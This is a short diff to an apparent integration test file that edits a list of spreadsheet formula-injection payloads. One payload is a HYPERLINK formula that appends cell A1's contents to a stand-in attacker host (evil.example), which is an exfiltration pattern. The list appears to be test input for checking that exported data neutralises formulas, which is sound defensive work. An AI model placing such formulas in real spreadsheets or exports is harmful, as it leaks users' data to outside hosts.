@@ -22,7 +22,7 @@ from tests.integration._admin import WRITE
 
 pytestmark = pytest.mark.integration
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
+FORMULAS = ['=HYPERLINK("evil.example?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
 
 
 @pytest.fixture
